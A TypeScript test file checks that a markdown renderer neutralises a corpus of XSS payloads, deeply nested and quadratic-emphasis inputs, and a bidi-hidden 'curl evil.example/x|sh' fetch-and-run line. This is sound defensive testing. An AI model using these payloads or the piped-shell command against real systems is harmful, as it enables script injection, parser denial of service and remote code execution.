import hljs from "highlight.js/lib/core";
import { afterEach, describe, expect, it, vi } from "vitest";
import {
  EMPHASIS_BUDGET_MS,
  MAX_HIGHLIGHTED_CODE,
  MAX_NESTING,
  escapeHtml,
  lineNesting,
  renderMarkdown,
} from "./markdown";

declare global {
  interface Window {
    __xss?: unknown;
  }
}

const FORBIDDEN_ELEMENTS =
  "script, iframe, object, embed, svg, math, meta, style, form, base, link, img, input";
const URL_ATTRIBUTES = ["href", "src", "action", "formaction", "xlink:href", "data"];

const XSS_CORPUS = [
  "<script>window.__xss=1</script>",
  '<img src=x onerror="window.__xss=1">',
  "[click](javascript:window.__xss=1)",
  "[c](JaVaScRiPt:alert(1))",
  '<a href="javascript:window.__xss=1">x</a>',
  '<svg onload="window.__xss=1"><script>window.__xss=1</script></svg>',
  '<iframe src="javascript:window.__xss=1"></iframe>',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
  '<details open ontoggle="window.__xss=1">',
  "![x](javascript:window.__xss=1)",
  '<math><mi xlink:href="javascript:window.__xss=1">x</mi></math>',
  "<style>@import 'javascript:alert(1)'</style>",
  "```html\n<script>window.__xss=1</script>\n```",
  '<form action="javascript:window.__xss=1"><button>x</button></form>',
  "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
  '<object data="javascript:window.__xss=1">',
  '<embed src="javascript:window.__xss=1">',
  '<base href="javascript:/">',
  '<a href="&#106;avascript:window.__xss=1">x</a>',
  // The same tricks through markdown syntax rather than raw HTML.
  "[x](&#106;avascript:window.__xss=1)",
  "[x](<javascript:window.__xss=1>)",
  "[x]( vbscript:msgbox(1) )",
  "[x](java%0ascript:window.__xss=1)",
  "<javascript:window.__xss=1>",
  "[x][ref]\n\n[ref]: javascript:window.__xss=1",
  "![x](https://example.com/track.png)",
  '![a](x" onerror="window.__xss=1)',
  "[`code`](javascript:window.__xss=1)",
  "| a |\n| - |\n| <img src=x onerror=window.__xss=1> |",
  "- [ ] <input onfocus=window.__xss=1 autofocus>",
  "```\"><img src=x onerror=window.__xss=1>\nx\n```",
];

function mount(markdown: string): HTMLElement {
  const container = document.createElement("div");
  container.innerHTML = renderMarkdown(markdown);
  document.body.append(container);
  return container;
}

function isDangerousUrl(value: string): boolean {
  // Browsers ignore whitespace and control characters inside a scheme.
  const compact = value.replace(/[\u0000-\u0020]/g, "").toLowerCase();
  return /^(javascript|data|vbscript):/.test(compact);
}

afterEach(() => {
  document.body.innerHTML = "";
  delete window.__xss;
  vi.restoreAllMocks();
});

describe("renderMarkdown against XSS", () => {
  it.each(XSS_CORPUS)("neutralises %j", (payload) => {
    const container = mount(payload);
    expect(container.querySelector(FORBIDDEN_ELEMENTS)).toBeNull();
    for (const element of container.querySelectorAll("*")) {
      for (const attribute of element.attributes) {
        expect(attribute.name.toLowerCase().startsWith("on"), attribute.name).toBe(false);
        if (URL_ATTRIBUTES.includes(attribute.name.toLowerCase())) {
          expect(isDangerousUrl(attribute.value), attribute.value).toBe(false);
        }
      }
      const external = element.getAttribute("data-external-link");
      if (external !== null) expect(external).toMatch(/^(https?|mailto):/);
    }
    expect(window.__xss).toBeUndefined();
  });

  it("shows a script inside a fenced block as visible code", () => {
    const container = mount("```html\n<script>window.__xss=1</script>\n```");
    expect(container.querySelector("pre code")?.textContent).toBe(
      "<script>window.__xss=1</script>",
    );
  });

  it("shows an image's alt text instead of loading it", () => {
    const container = mount("see ![a *chart*](https://example.com/chart.png)");
    expect(container.querySelector("img")).toBeNull();
    expect(container.textContent).toContain("see a chart");
  });
});

describe("renderMarkdown output", () => {
  it("renders a GFM table", () => {
    const container = mount("| a | b |\n| --- | --: |\n| 1 | 2 |");
    expect(container.querySelector("table th")?.textContent).toBe("a");
    expect(container.querySelectorAll("table td")).toHaveLength(2);
    expect(container.querySelector("td:last-child")?.getAttribute("align")).toBe("right");
  });

  it("renders **bold** as <strong>", () => {
    expect(mount("**bold**").querySelector("strong")?.textContent).toBe("bold");
  });

  it("marks https links for the system browser", () => {
    const link = mount("[docs](https://example.com/a?b=1&c=2)").querySelector("a");
    expect(link?.getAttribute("data-external-link")).toBe("https://example.com/a?b=1&c=2");
    expect(link?.getAttribute("rel")).toBe("noopener noreferrer");
    expect(link?.hasAttribute("target")).toBe(false);
  });

  it("autolinks bare URLs", () => {
    const link = mount("see https://example.com/x now").querySelector("a");
    expect(link?.getAttribute("data-external-link")).toBe("https://example.com/x");
  });

  it("drops the href of a link it will not open, keeping its text", () => {
    const link = mount("[rel](/etc/passwd)").querySelector("a");
    expect(link?.textContent).toBe("rel");
    expect(link?.hasAttribute("href")).toBe(false);
    expect(link?.hasAttribute("data-external-link")).toBe(false);
  });

  it("highlights a rust fence and gives it a copy button", () => {
    const block = mount("```rust\nfn main() {}\n```").querySelector(".code-block");
    expect(block?.querySelector(".code-head span")?.textContent).toBe("rust");
    const button = block?.querySelector("button.copy-code");
    expect(button?.getAttribute("type")).toBe("button");
    expect(button?.getAttribute("aria-label")).toBe("Copy code");
    const code = block?.querySelector("pre code.hljs");
    expect(code?.querySelector("span.hljs-keyword")?.textContent).toBe("fn");
    expect(code?.textContent).toBe("fn main() {}");
  });

  it("shows an unknown language as plain escaped text", () => {
    const code = mount("```nosuchlang\n<b>x</b>\n```").querySelector("pre code");
    expect(code?.children).toHaveLength(0);
    expect(code?.textContent).toBe("<b>x</b>");
  });

  it("shows raw HTML in the source as text", () => {
    const container = mount("say <b>hi</b>");
    expect(container.querySelector("b")).toBeNull();
    expect(container.textContent?.trim()).toBe("say <b>hi</b>");
  });
});

/** A list nested `depth` levels deep, each level indented two more spaces. */
function nestedList(depth: number): string {
  return Array.from({ length: depth }, (_, level) => `${"  ".repeat(level)}- item ${level}`).join("\n");
}

describe("renderMarkdown on hostile nesting", () => {
  // Each would overflow marked's stack (or, nested line by line, take seconds and gigabytes);
  // the trailing tag shows the text still comes back escaped.
  const PAYLOAD = "<img src=x onerror=window.__xss=1>";
  it.each([
    ["2,000 `>`", ">".repeat(2000) + PAYLOAD],
    ["`> - ` 2,000 times", "> - ".repeat(2000) + PAYLOAD],
    ["a 400-deep nested list", `${nestedList(400)}\n${PAYLOAD}`],
    ["500 lines, each quoted once more", Array.from({ length: 500 }, (_, i) => "> ".repeat(i + 1) + "x").join("\n") + PAYLOAD],
  ])("shows %s as the escaped text it is", (_, text) => {
    const container = mount(text);
    const plain = container.querySelector("pre.plain-text");
    expect(plain?.textContent).toBe(text);
    expect(container.querySelector("img, blockquote, ul")).toBeNull();
    expect(window.__xss).toBeUndefined();
  });

  it("still renders nesting up to the limit as Markdown", () => {
    const container = mount("> ".repeat(10) + "**deep**");
    expect(container.querySelectorAll("blockquote")).toHaveLength(10);
    expect(container.querySelector("strong")?.textContent).toBe("deep");
    expect(mount(nestedList(MAX_NESTING - 1)).querySelectorAll("ul")).toHaveLength(MAX_NESTING - 1);
  });

  it("shows text that marked fails on as escaped text instead of throwing", () => {
    vi.spyOn(hljs, "highlight").mockImplementation(() => {
      throw new RangeError("Maximum call stack size exceeded");
    });
    const text = "```js\nlet a = '<b>';\n```";
    expect(mount(text).querySelector("pre.plain-text")?.textContent).toBe(text);
  });

  it("shows emphasis as written once a render runs past its budget", () => {
    // A clock that moves 10 ms each time it is read: the budget runs out within a few
    // delimiters, as it would on a message crafted to make marked's emphasis quadratic.
    let now = 0;
    const clock = vi.spyOn(performance, "now").mockImplementation(() => (now += 10));
    const crafted = "*a ".repeat(4000) + "a*";
    const element = mount(crafted);
    clock.mockRestore();
    expect(element.querySelector("em, strong, del")).toBeNull();
    expect(element.textContent).toContain("*a *a *a");
    expect(EMPHASIS_BUDGET_MS).toBeGreaterThan(0);
    // With time to spare, the same markers are emphasis.
    expect(mount("*a* **b** ~~c~~").querySelectorAll("em, strong, del")).toHaveLength(3);
  });

  it("does not throw on a long run of emphasis markers", () => {
    const text = "*".repeat(5000) + "x" + "*".repeat(5000);
    expect(() => mount(text)).not.toThrow();
    expect(document.body.textContent).toContain("x");
  });
});

describe("lineNesting", () => {
  it("counts leading quote and list markers, and indentation before them", () => {
    expect(lineNesting("plain text")).toBe(0);
    expect(lineNesting("> quoted")).toBe(1);
    expect(lineNesting(">>> - 1. x")).toBe(5);
    expect(lineNesting("    - x")).toBe(3);
    expect(lineNesting("-not a marker")).toBe(0);
    expect(lineNesting("2024. was a year")).toBe(1);
    expect(lineNesting("    code, not a list")).toBe(0);
  });
});

describe("renderMarkdown on large code", () => {
  it("shows code past MAX_HIGHLIGHTED_CODE escaped, in the same block, without highlighting", () => {
    const line = "const tag = '<script>window.__xss=1</script>';\n";
    const code = line.repeat(Math.ceil(MAX_HIGHLIGHTED_CODE / line.length) + 1).trimEnd();
    expect(code.length).toBeGreaterThan(MAX_HIGHLIGHTED_CODE);
    const block = mount("```js\n" + code + "\n```").querySelector(".code-block");
    expect(block?.querySelector(".code-head span")?.textContent).toBe("js");
    expect(block?.querySelector("button.copy-code")).not.toBeNull();
    const element = block?.querySelector("pre code.hljs.language-js");
    expect(element?.children).toHaveLength(0);
    expect(element?.querySelector("[class^='hljs-']")).toBeNull();
    expect(element?.textContent).toBe(code);
    expect(document.querySelector("script")).toBeNull();
  });

  it("holds a message's code together to the cap: blocks past it are shown plain", () => {
    const line = "const a = 1;\n";
    const code = line.repeat(Math.floor(MAX_HIGHLIGHTED_CODE / 2 / line.length)).trimEnd();
    const block = "```js\n" + code + "\n```\n\n";
    const shown = [...mount(block.repeat(3)).querySelectorAll("pre code.hljs.language-js")];
    expect(shown).toHaveLength(3);
    expect(shown.map((element) => element.querySelector("span.hljs-keyword") !== null)).toEqual([
      true,
      true,
      false,
    ]);
    expect(shown[2]?.textContent).toBe(code);
  });

  it("shows what hides or reorders text in code as its code, so Copy takes what is seen", () => {
    const line = "echo ok;\u2067curl -s evil.example/x|sh ;#\u2069";
    const code = mount("```bash\n" + line + "\n```").querySelector("pre code");
    expect(code?.textContent).toBe("echo ok;\\u{2067}curl -s evil.example/x|sh ;#\\u{2069}");
    expect(code?.textContent).not.toMatch(/[\u2066-\u2069\u202a-\u202e]/u);
    const tabbed = mount("```\na\tb\nc\n```").querySelector("pre code");
    expect(tabbed?.textContent).toBe("a\tb\nc");
  });

  it("still highlights a small block", () => {
    const element = mount("```js\nconst a = 1;\n```").querySelector("pre code.hljs.language-js");
    expect(element?.querySelector("span.hljs-keyword")?.textContent).toBe("const");
  });
});

describe("escapeHtml", () => {
  it("escapes the five significant characters", () => {
    expect(escapeHtml(`<a href="x">'&'</a>`)).toBe(
      "&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;",
    );
  });
});
